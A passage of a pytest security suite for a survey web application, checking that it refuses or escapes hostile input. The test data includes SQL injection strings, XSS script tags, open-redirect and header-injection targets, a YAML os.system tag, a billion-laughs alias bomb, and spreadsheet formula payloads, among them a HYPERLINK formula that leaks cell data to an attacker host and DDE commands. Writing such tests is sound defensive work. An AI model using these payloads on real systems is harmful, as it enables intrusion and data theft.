        BAD_REQUEST,
        id="export-layout-path-traversal",
    ),
    pytest.param(
        "/admin/waves/{wave_a}/dashboard?sort=name;DROP TABLE waves&dir=sideways",
        200,
        "Baseline A",
        id="dashboard-sort-sql-injection",
    ),
    pytest.param(
        "/admin/waves/{wave_a}/results?by=password",
        200,
        "Baseline A",
        id="results-breakdown-forged",
    ),
    pytest.param(
        "/admin/waves/{wave_a}/outbox?state=<script>", 200, "Baseline A", id="outbox-state-forged"
    ),
    pytest.param(
        "/admin/waves/{wave_a}/non-respondents?page=99999999999999999999999",
        200,
        "Baseline A",
        id="non-respondents-page-beyond-64-bits",
    ),
    pytest.param(
        "/admin/waves/{wave_a}/outbox?page=99999999999999999999999",
        200,
        "Baseline A",
        id="outbox-page-beyond-64-bits",
    ),
    pytest.param(
        "/admin/programmes/{programme_a}/participants?page=-5&q=%25",
        200,
        "No participant matches this search",
        id="search-for-a-percent-sign-matches-nobody",
    ),
    pytest.param(
        "/admin/programmes/{programme_a}/participants?q=%27%20OR%20%271%27=%271",
        200,
        "No participant matches this search",
        id="search-sql-injection-matches-nobody",
    ),
    pytest.param(
        "/admin/programmes/{programme_a}/participants?q=Zed%00",
        200,
        "No participant matches this search",
        id="search-with-a-nul-byte",
    ),
    pytest.param(
        "/admin/waves/{wave_a}?page=99999999999999999999999",
        200,
        "Baseline A",
        id="wave-page-number-beyond-64-bits",
    ),
    pytest.param(
        "/admin/audit?programme=99999999999999999999",
        200,
        "Audit log",
        id="audit-programme-beyond-64-bits",
    ),
]


@pytest.mark.parametrize(("url", "status", "says"), QUERIES)
def test_forged_query_parameters_are_refused_or_ignored(
    app, client, auth, world, url, status, says
):
    auth.login()

    with Unchanged(app):
        response = client.get(url.format(**world.ids()))

    assert response.status_code == status, response.text[:2000]
    assert says in response.text


@pytest.mark.parametrize(
    "target",
    [
        pytest.param("javascript:alert(1)", id="javascript-url"),
        pytest.param("//evil.example/", id="protocol-relative"),
        pytest.param("/\\evil.example/", id="backslash-host"),
        pytest.param("https:evil.example", id="scheme-without-slashes"),
        pytest.param("/%0d%0aSet-Cookie:x=1", id="header-injection"),
    ],
)
def test_sign_in_never_sends_anyone_off_site(client, auth, target):
    auth.login()
    client.post("/auth/logout")

    response = client.post(
        "/auth/login",
        query_string={"next": target},
        data={"email": "admin@example.org", "password": "correct horse battery"},
    )

    assert response.status_code == 303
    assert response.location.startswith("/") and not response.location.startswith("//")
    assert "\r" not in response.location and "\n" not in response.location
    assert "Set-Cookie" not in str(response.headers.get_all("Set-Cookie"))


# -- 5. Replays ------------------------------------------------------------------------------


def test_replaying_a_cohort_import_adds_and_changes_nobody(app, client, auth, world):
    auth.login()
    content = base64.b64encode(
        cohort_csv(("A0099", "New Person", "new@example.org", "North"))
    ).decode()
    url = f"/admin/programmes/{world.programme_a}/cohort/import"
    first = client.post(url, data={"content": content}, follow_redirects=True)

    with Unchanged(app):
        again = client.post(url, data={"content": content}, follow_redirects=True)

    assert "1 added" in first.text
    assert "0 added, 0 updated, 1 unchanged" in again.text


def test_replaying_a_reopen_says_there_is_nothing_to_reopen(app, client, auth, session, world):
    auth.login()
    url = f"/admin/waves/{world.wave_a}/invitations/{world.invitation_done}/reopen"
    first = client.post(url, follow_redirects=True)

    with Unchanged(app):
        again = client.post(url, follow_redirects=True)

    assert "are reopened on the same link" in first.text
    assert "has not submitted their answers, so there is nothing to reopen" in again.text
    assert session.scalar(select(func.count()).select_from(Response)) == 0


def test_replaying_send_now_sends_nobody_a_second_message(app, client, auth, world):
    auth.login()
    url = f"/admin/waves/{world.wave_a}/reminders/steps/{world.step_a}/send"
    client.post(url)

    with Unchanged(app):
        again = client.post(url, follow_redirects=True)

    assert "0 new message(s)" in again.text


def test_replaying_a_withdrawal_keeps_the_first_time(app, client, auth, world):
    auth.login()
    url = f"/admin/programmes/{world.programme_a}/participants/{world.person_a}/withdraw"
    client.post(url)

    with Unchanged(app):
        again = client.post(url)

    assert again.status_code == 303


def test_a_withdrawn_persons_open_session_can_no_longer_answer(app, client, auth, world):
    _as("participant", client, auth, world)
    staff = app.test_client()
    from tests.conftest import AuthActions

    # Withdrawn by a member of staff while the participant has the page open.
    AuthActions(staff, auth.session).login()
    staff.post(f"/admin/programmes/{world.programme_a}/participants/{world.person_a}/withdraw")

    with Unchanged(app):
        response = client.post(PAGE_2_URL, data=PAGE_2)

    assert response.status_code == 404
    assert LINK_NOT_ACTIVE in response.text


def test_guessing_personal_links_is_stopped_and_stores_nothing(app, client, world):
    with Unchanged(app):
        guesses = [client.get(f"/r/guess{number:04d}") for number in range(21)]

    assert [guess.status_code for guess in guesses] == [404] * 20 + [429]
    assert "Too many attempts" in guesses[-1].text


# -- 6. CSRF: forged, missing and borrowed tokens ---------------------------------------------


@pytest.fixture
def csrf_app(make_app):
    return make_app(WTF_CSRF_ENABLED=True)


CSRF_CASES = [
    pytest.param("/admin/programmes/new", NEW_PROGRAMME, None, id="admin-form-without-a-token"),
    pytest.param("/admin/programmes/new", NEW_PROGRAMME, "forged", id="admin-form-forged-token"),
    pytest.param(
        "/admin/programmes/new",
        NEW_PROGRAMME,
        "other-session",
        id="admin-form-with-another-sessions-token",
    ),
    pytest.param(
        "/admin/programmes/{programme_a}/cohort/import",
        {"content": base64.b64encode(_row(id_number="A0099")).decode()},
        None,
        id="cohort-import-without-a-token",
    ),
    pytest.param(
        "/admin/waves/{wave_a}/invitations/{invitation_done}/reopen",
        {},
        "other-session",
        id="reopen-with-another-sessions-token",
    ),
    pytest.param(
        "/admin/waves/{wave_a}/reminders/steps/{step_a}/send",
        {},
        "forged",
        id="send-now-forged-token",
    ),
    pytest.param(
        "/admin/waves/{wave_a}/reminders/emails/{template_a}",
        {"subject": "Changed", "body": "Changed"},
        None,
        id="email-edit-without-a-token",
    ),
    pytest.param(
        "/admin/programmes/{programme_a}/participants/{person_a}/withdraw",
        {},
        "other-session",
        id="withdraw-with-another-sessions-token",
    ),
]


@pytest.mark.parametrize(("url", "data", "token"), CSRF_CASES)
def test_admin_post_without_its_own_csrf_token_is_refused(
    app, csrf_app, session, world, url, data, token
):
    client = csrf_app.test_client()
    sign_in_with_token(client, session)
    if token == "other-session":
        stranger = csrf_app.test_client()
        sign_in_with_token(stranger, session, email="other@example.org")
        token = csrf_token(stranger, "/admin/programmes/new")
    body = dict(data) | ({"csrf_token": token} if token else {})

    with Unchanged(app):
        response = client.post(url.format(**world.ids()), data=body)

    assert response.status_code == 400
    assert CSRF_REFUSED in response.text and "Nothing you sent was saved" in response.text


def _participant_with_tokens(csrf_app, world, pages):
    """A participant of A who has sent ``pages``, and a token of participant B's session."""
    other = csrf_app.test_client()
    other.get(f"/r/{world.token_b}")
    borrowed = csrf_token(other, PAGE_1_URL)
    client = csrf_app.test_client()
    client.get(f"/r/{world.token_a}")
    for url, data in pages:
        sent = client.post(url, data={**data, "csrf_token": csrf_token(client, url)})
        assert sent.status_code == 303, sent.text
    return client, borrowed


def test_a_page_sent_with_another_participants_token_is_asked_again_not_saved(app, csrf_app, world):
    """An expired or foreign token is not an error page: the answers are shown again."""
    client, borrowed = _participant_with_tokens(csrf_app, world, [(PAGE_1_URL, PAGE_1)])

    with Unchanged(app):
        response = client.post(PAGE_2_URL, data=_page_2(action_agreed="Typed", csrf_token=borrowed))

    assert response.status_code == 200
    assert "press Continue again" in response.text and "Typed" in response.text


def test_a_submission_with_another_participants_token_is_asked_again_not_stored(
    app, csrf_app, world
):
    client, borrowed = _participant_with_tokens(
        csrf_app, world, [(PAGE_1_URL, PAGE_1), (PAGE_2_URL, PAGE_2)]
    )

    with Unchanged(app):
        response = client.post("/r/submit", data={"csrf_token": borrowed})

    assert response.status_code == 303
    assert response.location.endswith("/r/check-answers")


def test_sign_in_with_a_forged_token_is_refused(app, csrf_app, session, world):
    client = csrf_app.test_client()
    client.get("/auth/login")

    with Unchanged(app):
        response = client.post(
            "/auth/login",
            data={"email": "admin@example.org", "password": "x", "csrf_token": "forged"},
        )

    assert response.status_code == 400
    assert CSRF_REFUSED in response.text


# -- 7. Questionnaire files --------------------------------------------------------------------

GOOD_START = """format_version: 1
key: {key}
title: {title}
estimated_minutes: 3
source: Written for the test
origin: written
pages:
  - id: first
    title: First
    items:
      - id: q1
        type: short_text
        text: {text}
"""


def _alias_bomb() -> bytes:
    """A billion laughs: nine levels of ten aliases each, used where the checker reads."""
    lines = ["format_version: 1", "key: alias_bomb", "option_sets:"]
    lines.append("  a: &a [{code: 1, label: x}, {code: 2, label: y}]")
    for level in range(1, 10):
        name, below = chr(97 + level), chr(96 + level)
        lines.append(f"  {name}: &{name} [" + ", ".join([f"*{below}"] * 10) + "]")
    lines += [
        "title: *j",
        "estimated_minutes: 3",
        "source: s",
        "pages:",
        "  - {id: p, title: P, items: [{id: q, type: likert, text: Q, options: *j}]}",
    ]
    return "\n".join(lines).encode()


QUESTIONNAIRE_FILES = [
    pytest.param(
        "python_tag",
        GOOD_START.format(
            key="python_tag", title="!!python/object/apply:os.system [ls]", text="Name?"
        ).encode(),
        "must be text",
        id="file-with-a-python-object-tag",
    ),
    pytest.param(
        "alias_bomb", _alias_bomb(), "must be written as", id="file-with-a-billion-laughs"
    ),
    pytest.param(
        "deep",
        b"format_version: 1\nkey: deep\ntitle: " + b"[" * 20_000 + b"]" * 20_000 + b"\n",
        "nested too deeply",
        id="file-nested-20000-levels-deep",
    ),
    pytest.param(
        "not_utf8",
        GOOD_START.format(key="not_utf8", title="Caf\xe9", text="Q?").encode("latin-1"),
        "The file is not saved as UTF-8 text",
        id="file-not-utf8",
    ),
    pytest.param(
        "huge",
        GOOD_START.format(key="huge", title="T", text="Q?").encode() + b"#" * 1_100_000,
        "over the limit of 1 MB",
        id="file-over-1-MB",
    ),
    pytest.param(
        "rlo_key",
        GOOD_START.format(key="rlo\u202ekey", title="T", text="Q?").encode(),
        "The &#34;key&#34; must be lower-case letters",
        id="file-with-right-to-left-override-in-its-key",
    ),
]


@pytest.mark.parametrize(("name", "content", "says"), QUESTIONNAIRE_FILES)
def test_broken_questionnaire_file_is_reported_and_never_stored(
    make_app, auth, tmp_path, name, content, says
):
    folder = tmp_path / "questionnaires"
    folder.mkdir()
    (folder / f"{name}.yaml").write_bytes(content)
    app = make_app(QUESTIONNAIRE_DIR=str(folder))
    client = app.test_client()
    auth.client = client
    auth.login()

    with Unchanged(app):
        listed = client.get("/admin/questionnaires")
        loaded = client.post("/admin/questionnaires/load", follow_redirects=True)
        detail = client.get(f"/admin/questionnaires/{name}")

    assert listed.status_code == 200
    assert "0 new version(s) stored; 1 file(s) not loaded because of errors" in loaded.text
    assert detail.status_code == 200 and says in detail.text
    for page in (listed.text, loaded.text, detail.text):
        assert "<script>alert(1)" not in page and "<img src=x" not in page


@pytest.mark.parametrize(
    ("title", "text"),
    [
        pytest.param('"<script>alert(1)</script>"', "Name?", id="file-with-script-in-the-title"),
        pytest.param("T", '"<script>alert(1)</script>"', id="file-with-script-in-a-question"),
    ],
)
def test_script_in_a_questionnaire_file_is_a_warning_and_shown_as_text(
    make_app, auth, tmp_path, title, text
):
    """HTML in a text is allowed with a warning: participants see it as plain text."""
    folder = tmp_path / "questionnaires"
    folder.mkdir()
    (folder / "scripted.yaml").write_text(GOOD_START.format(key="scripted", title=title, text=text))
    app = make_app(QUESTIONNAIRE_DIR=str(folder))
    client = app.test_client()
    auth.client = client
    auth.login()

    loaded = client.post("/admin/questionnaires/load", follow_redirects=True)
    pages = {
        url: client.get(url)
        for url in (
            "/admin/questionnaires",
            "/admin/questionnaires/scripted",
            "/admin/questionnaires/scripted/versions/1",
            "/admin/questionnaires/scripted/preview",
            "/admin/questionnaires/scripted/preview/first",
        )
    }

    assert "1 new version(s) stored" in loaded.text
    assert "looks like HTML" in pages["/admin/questionnaires/scripted"].text
    for url, page in pages.items():
        assert page.status_code == 200, url
        assert "<script>alert(1)" not in page.text, url
    assert "&lt;script&gt;alert(1)" in pages["/admin/questionnaires/scripted/preview/first"].text


# -- 8. Script in every text field: stored as typed, escaped wherever it is shown -----------


def _csv_with(**fields) -> bytes:
    values = {
        "id_number": "A0077",
        "name": "Hostile Person",
        "email": "h@example.org",
        "team": "North",
        "organisation": "Org",
        "region": "Region",
        "role": "Role",
    }
    values.update(fields)
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([*values, "Notes"])
    writer.writerow([*values.values(), fields.get("attribute", "")])
    return buffer.getvalue().encode()


def _import(client, world, content: bytes) -> None:
    response = client.post(
        f"/admin/programmes/{world.programme_a}/cohort/import",
        data={"content": base64.b64encode(content).decode()},
    )
    assert response.status_code == 303, response.text


def _person_url(session, world):
    person = session.scalar(select(Participant.id).where(Participant.id_number == "A0077"))
    return f"/admin/programmes/{world.programme_a}/participants/{person}"


@pytest.mark.parametrize(
    "field_name",
    ["name", "run_by", "description"],
    ids=lambda f: f"programme-{f.replace('_', '-')}",
)
def test_script_in_programme_details_is_shown_as_text(client, auth, session, world, field_name):
    auth.login()
    details = {"name": "Programme A", "run_by": "Us", "description": "", "reporting_threshold": "5"}
    saved = client.post(
        f"/admin/programmes/{world.programme_a}/edit", data={**details, field_name: SCRIPT}
    )
    assert saved.status_code == 303, saved.text
    pages = [f"/admin/programmes/{world.programme_a}"]
    if field_name == "name":
        pages += ["/admin/programmes", f"/admin/waves/{world.wave_a}/dashboard"]
    for url in pages:
        page = client.get(url)
        assert page.status_code == 200 and shows_script_as_text(page.text), url
    if field_name in ("name", "run_by"):
        client.post("/auth/logout")
        client.get(f"/r/{world.token_a}")
        start = client.get("/r/")
        assert shows_script_as_text(start.text), "participant start page"


@pytest.mark.parametrize(
    ("column", "pages"),
    [
        pytest.param(
            "name", ["list", "person", "wave", "non-respondents", "send"], id="person-name"
        ),
        pytest.param("team", ["list", "person", "wave-dashboard"], id="person-team"),
        pytest.param("organisation", ["person", "wave-dashboard"], id="person-organisation"),
        pytest.param("region", ["person", "wave-dashboard"], id="person-region"),
        pytest.param("role", ["person", "wave-dashboard"], id="person-role"),
        pytest.param("attribute", ["person"], id="person-extra-column"),
    ],
)
def test_script_in_cohort_fields_is_shown_as_text(client, auth, session, world, column, pages):
    auth.login()
    _import(client, world, _csv_with(**{column: SCRIPT}))
    urls = {
        "list": f"/admin/programmes/{world.programme_a}/participants",
        "person": _person_url(session, world),
        "wave": f"/admin/waves/{world.wave_a}",
        "wave-dashboard": f"/admin/waves/{world.wave_a}/dashboard",
        "non-respondents": f"/admin/waves/{world.wave_a}/non-respondents",
        "send": f"/admin/waves/{world.wave_a}/reminders/steps/{world.step_a}/send",
    }
    for page_name in pages:
        page = client.get(urls[page_name])
        assert page.status_code == 200, page_name
        assert shows_script_as_text(page.text), page_name


def test_script_in_wave_step_and_email_texts_is_shown_as_text(client, auth, session, world):
    auth.login()
    from surveyapp.models import EmailTemplate, ReminderStep

    wave = session.get(Wave, world.wave_a)
    wave.label = SCRIPT
    step = session.get(ReminderStep, world.step_a)
    step.label = SCRIPT
    session.commit()
    saved = client.post(
        f"/admin/waves/{world.wave_a}/reminders/emails/{world.template_a}",
        data={"subject": "About " + SCRIPT, "body": SCRIPT + " {{ link }} {{ opt_out_link }}"},
    )
    assert saved.status_code == 303, saved.text
    assert session.get(EmailTemplate, world.template_a) is not None
    base = f"/admin/waves/{world.wave_a}"
    for url in (
        f"/admin/programmes/{world.programme_a}",
        base,
        f"{base}/dashboard",
        f"{base}/reminders",
        f"{base}/reminders/emails",
        f"{base}/reminders/emails/{world.template_a}",
        f"{base}/reminders/steps/{world.step_a}/send",
        f"{base}/outbox/{world.message_a}",
    ):
        page = client.get(url)
        assert page.status_code == 200 and shows_script_as_text(page.text), url


def test_script_typed_by_a_participant_is_shown_as_text(client, auth, world):
    _as("participant", client, auth, world)

    client.post(PAGE_1_URL, data={**PAGE_1, "session_type": "other", "session_type_other": SCRIPT})
    client.post(PAGE_2_URL, data=_page_2(action_agreed=SCRIPT))
    check = client.get("/r/check-answers")
    invalid = client.post(PAGE_2_URL, data=_page_2(action_agreed=SCRIPT, s_useful="9"))

    assert check.status_code == 200 and shows_script_as_text(check.text)
    assert invalid.status_code == 422 and shows_script_as_text(invalid.text)


def test_script_in_a_persons_details_never_runs_in_an_email_or_its_previews(
    make_app, session, smtp_server, smtp_config, world
):
    """Emails are sent through a real SMTP server; any HTML part must escape the script,
    and the pages that show the email before and after sending escape it too."""
    from tests.conftest import AuthActions

    app = make_app(**smtp_config)
    client = app.test_client()
    AuthActions(client, session).login()
    _import(client, world, _csv_with(name=SCRIPT, team=SCRIPT, organisation=SCRIPT))
    session.get(Programme, world.programme_a).name = SCRIPT
    session.commit()
    final = next(
        step
        for step in sending.steps_of(session, session.get(Wave, world.wave_a))
        if step.template.name == "final"
    )

    send_url = f"/admin/waves/{world.wave_a}/reminders/steps/{final.id}/send"
    preview = client.get(send_url)
    sent = client.post(send_url)
    stored = session.scalar(select(Message.id).where(Message.to_address == "h@example.org"))
    outbox = client.get(f"/admin/waves/{world.wave_a}/outbox/{stored}")

    assert preview.status_code == 200 and shows_script_as_text(preview.text)
    assert sent.status_code == 303
    assert outbox.status_code == 200 and shows_script_as_text(outbox.text)
    received = [m for m in smtp_server.handler.messages if m["To"] == "h@example.org"]
    assert len(received) == 1
    message = received[0]
    assert "\n" not in message["Subject"]
    html_parts = [part for part in message.walk() if part.get_content_type() == "text/html"]
    text_parts = [part for part in message.walk() if part.get_content_type() == "text/plain"]
    for part in html_parts:
        assert shows_script_as_text(part.get_content())
    assert html_parts or text_parts
    for part in text_parts:
        assert SCRIPT in part.get_content()  # plain text shows it as typed; nothing runs it


# -- 9. Formula text: inert in every export ---------------------------------------------------

FORMULAS = [
    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"Click")', id="equals-hyperlink"),
    pytest.param("+1+cmd|' /C calc'!A0", id="plus-dde"),
    pytest.param("-2+3", id="minus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at-sign"),
    pytest.param("\t=1+1", id="tab-then-equals"),
]


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(content: bytes) -> list:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content))
    return [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row]


def _inert(cells, formula: str) -> bool:
    stripped = formula.strip("\t")
    found = [cell for cell in cells if isinstance(cell, str) and stripped in cell]
    return bool(found) and all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in found
    )


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_typed_by_a_participant_is_inert_in_csv_and_excel_exports(
    app, client, auth, world, formula
):
    _as("participant", client, auth, world)
    client.post(PAGE_2_URL, data=_page_2(action_agreed=formula))
    assert client.post("/r/submit").status_code == 303
    client.get("/r/complete")
    auth.login()
    url = f"/admin/waves/{world.wave_a}/export"

    exported_csv = client.get(url, query_string={"format": "csv", "full": "1"})
    exported_long = client.get(url, query_string={"format": "csv", "layout": "long", "full": "1"})
    exported_xlsx = client.get(url, query_string={"format": "xlsx", "full": "1"})

    assert _inert(_csv_cells(exported_csv.data), formula)
    assert _inert(_csv_cells(exported_long.data), formula)
    assert _inert(_xlsx_cells(exported_xlsx.data), formula)


@pytest.mark.parametrize("formula", FORMULAS[:3])
def test_formula_in_a_persons_details_is_inert_in_the_non_respondent_downloads(
    client, auth, world, formula
):
    auth.login()
    _import(client, world, _csv_with(name=formula.replace("\t", " "), team=formula))
    base = f"/admin/waves/{world.wave_a}/non-respondents"

    listed = client.get(f"{base}.csv")
    sample = client.get(f"{base}/sample", query_string={"size": 50, "seed": 1, "download": "csv"})

    assert _inert(_csv_cells(listed.data), formula)
    assert _inert(_csv_cells(sample.data), formula)
